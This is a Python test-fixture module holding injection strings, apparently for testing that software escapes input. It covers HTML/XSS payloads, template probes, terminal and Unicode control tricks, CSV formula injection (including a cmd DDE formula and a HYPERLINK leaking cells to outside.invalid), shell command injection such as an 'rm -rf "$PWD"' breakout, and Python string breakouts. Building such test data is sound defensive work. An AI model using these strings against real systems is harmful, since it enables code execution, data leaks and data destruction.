"""Text meant to break out of wherever it is put, and how to name files by it.

A script that runs sets `window.pwned`; a command that runs makes a file `pwned`; a
request that leaves goes to `outside.invalid`.
"""

from __future__ import annotations

ATTACKS: dict[str, str] = {
    # HTML text and attributes (OWASP, XSS Filter Evasion Cheat Sheet)
    "script": "<script>window.pwned=1</script>",
    "end of script": "</script><script>window.pwned=1</script>",
    "comment in script": "<!--<script>window.pwned=1//",
    "comment": "--><script>window.pwned=1</script><!--",
    "cdata": "]]><script>window.pwned=1</script><![CDATA[",
    "end of title": "</title></style></pre></td><img src=x onerror=window.pwned=1>",
    "end of drawing": "</text></svg><script>window.pwned=1</script>",
    "picture": "<img src=x onerror=window.pwned=1>",
    "drawing": "<svg onload=window.pwned=1>",
    "double quote": '" onload="window.pwned=1" autofocus onfocus="window.pwned=1',
    "single quote": "' onmouseover='window.pwned=1' x='",
    "quote and tag": "\"'><img src=x onerror=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.pwned=1<!--'>",
    "frame elsewhere": "<iframe src=//outside.invalid>",
    "refresh": "<meta http-equiv=refresh content=0;url=//outside.invalid>",
    "base": "<base href=//outside.invalid><form action=//outside.invalid>",
    "style": "<style>body{display:none}</style>",
    "address": "javascript:window.pwned=1",
    "link": "[x](javascript:window.pwned=1)<a href=javascript:window.pwned=1>x",
    "entities": "&lt;b&gt;&#60;i&#62;&amp;amp;&quot;&NoSuch;",
    "template": "{{7*7}}${7*7}{%7*7%}#{7*7}<%=7*7%>",
    "script string": "';window.pwned=1;//\";window.pwned=1;//`${window.pwned=1}`\\",
    # text that steers what shows it
    "line separators": "a\u2028window.pwned=1\u2029b",
    "right to left": "\u202egnp.\u2066x\u2069\u200f",
    "invisible": "zero\u200bwidth\ufeff\u00ad",
    "terminal": "\x1b]0;pwned\x07\x1b[2J\x9b31m\x7f",
    "lines": "one\ntwo\r\nthree\rfour",
    "mathematics": "$x^2$ \\frac{1}{0} $\\unknown{",
    "markdown": "| a | b |\n|---|---|\n# head ![x](//outside.invalid) `code` **bold**",
    "long": "long" * 45,
    # spreadsheet formulas (OWASP, CSV Injection)
    "formula": '=HYPERLINK("//outside.invalid?"&A1,"x")',
    "command formula": "+cmd|' /C calc'!A0",
    "at formula": "@SUM(1+1)",
    "minus formula": "-2+3",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    # shell
    "end of quote": "'; touch pwned; echo '",
    "end of double quote": '"; touch pwned; echo "',
    "substitution": "$(touch pwned)",
    "backticks": "`touch pwned`",
    "new line": "x\ntouch pwned\n",
    "pipes": "x; touch pwned & touch pwned | touch pwned && touch pwned > pwned",
    "removal": "'; rm -rf \"$PWD\"; '",
    "option": "--help -rf $IFS \\",
    # Python
    "end of docstring": '"""\nopen("pwned", "w")\n"""',
    "end of comment": 'x\nopen("pwned", "w")  #\x0copen("pwned", "w")',
    "end of string": "'\\\n+open('pwned', 'w')+'",
    "format": "{0.__class__}{folder}{version}%s%n",
}
"""What it attacks -> text."""

MOST_NAME_BYTES = 200
MOST_FOLDER_BYTES = 240
"""A file system takes 255, of which prefix and ending need some."""


def as_file_name(text: str) -> str:
    """Return text as part of a file's name, which holds neither "/" nor NUL."""
    return _cut(text.replace("/", "\u2215"), MOST_NAME_BYTES)


def as_cached_model(text: str) -> str:
    """Return the folder of the Hugging Face cache whose model id holds the text.

    The cache writes "--" for "/" (huggingface_hub, repo_folder_name), so that an id
    may hold an end tag although a folder's name may not.
    """
    return "models--org--" + _cut(text.replace("/", "--"), MOST_FOLDER_BYTES)


def _cut(text: str, most_bytes: int) -> str:
    return text.encode()[:most_bytes].decode(errors="ignore").strip()


def batches(count: int) -> list[list[str]]:
    """Return all attacks in so many lists of one length, the last filled anew."""
    texts = [*ATTACKS.values()]
    length = -(-len(texts) // count)
    return [(texts + texts)[first::count][:length] for first in range(count)]


def harmless(count: int) -> list[str]:
    """Return as many different texts that attack nothing."""
    return [f"harmless {at}" for at in range(count)]
